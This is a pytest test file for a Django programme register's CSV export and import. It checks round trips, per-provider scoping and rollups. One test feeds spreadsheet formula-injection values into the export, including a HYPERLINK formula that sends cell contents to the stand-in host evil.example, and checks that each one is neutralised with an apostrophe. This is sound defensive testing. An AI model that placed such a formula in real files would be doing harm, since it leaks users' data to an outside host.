"""The ``programme:export`` view, ``/programme/export/<slug:table>.csv``."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from factories import BRENT, signed_in
from programme_helpers import _cells, _export, _formula

from vru.web.accounts.models import Organisation
from vru.web.programme import csvio, scope
from vru.web.programme.models import (
    Consortium,
    Grant,
    Intervention,
    ProgrammeArea,
)

pytestmark = pytest.mark.django_db


PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'


TEXTS = [PAYLOAD, "- 5 sessions", "@home", "+44 club", "\tTab first", "\r=1+1", "'=quoted", "-5"]


def test_export_then_import_round_trip(world):
    c = signed_in(world["users"]["pm"])
    files = {t: c.get(reverse("programme:export", kwargs={"table": t})).content for t in csvio.TABLES}
    rows = list(csv.reader(io.StringIO(files["interventions"].decode())))
    assert rows[0] == csvio.COLUMNS["interventions"] and len(rows) == 3
    # unchanged on re-import
    for t in csvio.TABLES:
        res = csvio.import_csv(t, files[t])
        assert res.ok and res.created == 0 and res.updated == 0, (t, res.errors)
    # into an empty register (organisations kept): everything comes back the same
    Intervention.objects.all().delete()
    Grant.objects.all().delete()
    Consortium.objects.all().delete()
    ProgrammeArea.objects.all().delete()
    for t in csvio.TABLES:
        res = csvio.import_csv(t, files[t])
        assert res.ok and res.created > 0, (t, res.errors)
    again = {t: c.get(reverse("programme:export", kwargs={"table": t})).content for t in csvio.TABLES}
    assert again == files


def test_provider_export_holds_only_their_records(world):
    body = signed_in(world["users"]["beta"]).get(reverse("programme:export", kwargs={"table": "grants"}))
    text = body.content.decode()
    assert "T-B" in text and "T-A" not in text
    assert body["Content-Type"].startswith("text/csv")


def test_rollup_csv_is_the_same_rollup(world):
    pm = world["users"]["pm"]
    text = signed_in(pm).get(reverse("programme:export", kwargs={"table": "rollup-borough"})).content.decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    r = scope.rollup(pm, "borough")
    assert [row["label"] for row in rows] == [x["label"] for x in r.rows] + ["Total"]
    assert rows[-1]["amount_awarded"] == "1050000.50" and rows[-1]["people_reached"] == "19"


def test_every_export_neutralises_formulas_and_imports_back_to_the_same_records(bounds_world):
    alpha, beta = bounds_world["orgs"]
    Organisation.objects.filter(pk=beta.pk).update(name="@Beta")
    area = ProgrammeArea.objects.create(name=PAYLOAD, kind="ward", borough=BRENT, selected_year=2022)
    cons = Consortium.objects.create(name="=SUM(A1:A9)", area=area, lead=beta)
    grant = Grant.objects.create(reference="-G1", consortium=cons, amount_requested=Decimal("10"))
    grant.transition("awarded", amount_awarded=Decimal("5"), start_date=dt.date(2022, 1, 1),
                     end_date=dt.date(2023, 1, 1))
    for i, text in enumerate(TEXTS):
        Intervention.objects.create(grant=grant, kind="other", name=text, year=2022, sessions_delivered=i)
    pm = signed_in(bounds_world["users"]["pm"])
    files = {t: _export(pm, t) for t in csvio.TABLES}
    rollups = {by: _export(pm, f"rollup-{by}") for by in scope.ROLLUP_BY}
    for name, data in [*files.items(), *rollups.items()]:
        for cell in _cells(data):
            assert not _formula(cell), (name, cell)
    assert "'" + PAYLOAD in _cells(files["interventions"]) and "'" + PAYLOAD in _cells(files["areas"])
    assert "'=SUM(A1:A9)" in _cells(files["consortia"]) and "'-G1" in _cells(files["grants"])
    assert f"'{PAYLOAD}, Brent" in _cells(rollups["area"])
    assert "-5" in _cells(files["interventions"])  # text that is a number is written as it is
    # re-import: nothing changes; into an empty register: the same records, the same files
    for t in csvio.TABLES:
        res = csvio.import_csv(t, files[t])
        assert res.ok and (res.created, res.updated) == (0, 0), (t, res.errors)
    before = sorted(Intervention.objects.values_list("name", "sessions_delivered"))
    Intervention.objects.all().delete()
    Grant.objects.all().delete()
    Consortium.objects.all().delete()
    ProgrammeArea.objects.all().delete()
    for t in csvio.TABLES:
        res = csvio.import_csv(t, files[t])
        assert res.ok and res.created > 0, (t, res.errors)
    assert sorted(Intervention.objects.values_list("name", "sessions_delivered")) == before
    assert set(Intervention.objects.values_list("name", flat=True)) >= set(TEXTS)
    assert ProgrammeArea.objects.filter(name=PAYLOAD).exists()
    assert Grant.objects.get(reference="-G1").consortium.name == "=SUM(A1:A9)"
    assert {t: _export(pm, t) for t in csvio.TABLES} == files
